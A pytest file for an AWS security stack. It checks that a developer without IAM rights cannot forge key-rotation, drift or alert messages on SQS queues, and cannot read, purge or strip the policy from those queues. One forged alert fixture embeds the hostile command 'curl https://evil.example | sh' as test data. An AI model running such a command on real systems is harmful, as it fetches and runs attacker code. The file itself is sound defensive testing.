"""A developer without IAM rights sends, reads and reconfigures the queues; rules, functions and operators still do."""

import json

import pytest

from tests.attacks.attacked_stack import ADMINISTRATOR
from tests.local.aws.launched import allow
from tests.local.stack import eventually
from tests.published_events import golden_event

QUEUES = ("RotationQueue", "DriftQueue", "AlertQueue")
DEAD_LETTERS = ("DeadLetters", "QueueDeadLetters")


def forged_rotation(user, **data):
    event = golden_event("AccessKeyRotationDue", user_name=user)
    event["detail"]["data"] |= data
    return json.dumps(event)


def test_a_forged_judgement_makes_no_key_of_an_administrator(stack, developer, refused, unique):
    stack.enrol(unique)
    stack.aws.client("iam").attach_user_policy(UserName=unique, PolicyArn=ADMINISTRATOR)
    sqs = stack.aws.client("sqs", developer)

    with refused("a judgement of the year 2999 about an administrator"):
        sqs.send_message(
            QueueUrl=stack.physical_id("RotationQueue"),
            MessageBody=forged_rotation(unique, judged_at="2999-01-01T00:00:00+00:00"),
        )

    assert stack.keys(unique) == {}


def test_a_planned_rotation_reaches_the_worker(stack, unique):
    stack.enrol(unique)

    stack.plan()

    assert eventually(lambda: stack.keys(unique), 60)


def test_a_forged_alert_frames_no_colleague_and_ends_no_finding(stack, developer, refused, alerts, unique):
    sqs, queue = stack.aws.client("sqs", developer), stack.physical_id("AlertQueue")
    framed = golden_event("PolicyDriftDetected", entity=f"role/{unique}", revert=["curl https://evil.example | sh"])
    ended = golden_event("PolicyDriftResolved", entity=f"role/{unique}")

    for name, forged in (("an alert that frames a colleague", framed), ("a false RESOLVED", ended)):
        with refused(name):
            sqs.send_message(QueueUrl=queue, MessageBody=json.dumps(forged))

    assert stack.is_idle("AlertQueue")
    assert alerts.about(unique, seconds=1) == []


def test_a_forged_change_of_iam_is_refused(stack, developer, refused):
    change = {"detail": {"eventName": "PutRolePolicy", "userIdentity": {"arn": "arn:aws:iam::123456789012:user/bob"}}}

    with refused("a change of IAM in a colleague's name"):
        stack.aws.client("sqs", developer).send_message(
            QueueUrl=stack.physical_id("DriftQueue"), MessageBody=json.dumps(change)
        )


def test_a_real_change_of_iam_is_found_and_alerted_with_its_author(stack, events, alerts, role):
    admin = stack.aws.client("iam", stack.aws.user(allow("iam:*")))

    admin.attach_role_policy(RoleName=role, PolicyArn=ADMINISTRATOR)

    assert eventually(lambda: [e for e in events.about(role) if e["detail-type"] == "PolicyDriftDetected"], 60)
    assert alerts.about(role)


@pytest.mark.parametrize("queue", DEAD_LETTERS)
def test_only_the_stack_leaves_dead_letters(stack, developer, refused, queue):
    with refused(f"a dead letter in {queue}"):
        stack.aws.client("sqs", developer).send_message(QueueUrl=stack.physical_id(queue), MessageBody="{}")


@pytest.mark.parametrize("queue", [*QUEUES, *DEAD_LETTERS])
def test_messages_are_neither_read_nor_thrown_away(stack, developer, refused, queue):
    sqs, url = stack.aws.client("sqs", developer), stack.physical_id(queue)

    with refused(f"reading {queue}"):
        sqs.receive_message(QueueUrl=url)
    with refused(f"emptying {queue}"):
        sqs.purge_queue(QueueUrl=url)


@pytest.mark.parametrize("queue", [*QUEUES, *DEAD_LETTERS])
def test_the_policy_of_a_queue_is_not_lifted(stack, developer, refused, queue):
    sqs, url = stack.aws.client("sqs", developer), stack.physical_id(queue)

    with refused(f"lifting the policy of {queue}"):
        sqs.set_queue_attributes(QueueUrl=url, Attributes={"Policy": ""})
    with refused(f"deleting {queue}"):
        sqs.delete_queue(QueueUrl=url)


def test_an_operator_sends_a_message_again(stack, operator, alerts, unique):
    """As a redrive does, with the operator's rights."""
    event = golden_event("PolicyDriftDetected", finding_id=f"access:role:{unique}", entity=f"role/{unique}")

    stack.aws.client("sqs", operator).send_message(
        QueueUrl=stack.physical_id("AlertQueue"), MessageBody=json.dumps(event)
    )

    assert alerts.about(unique)
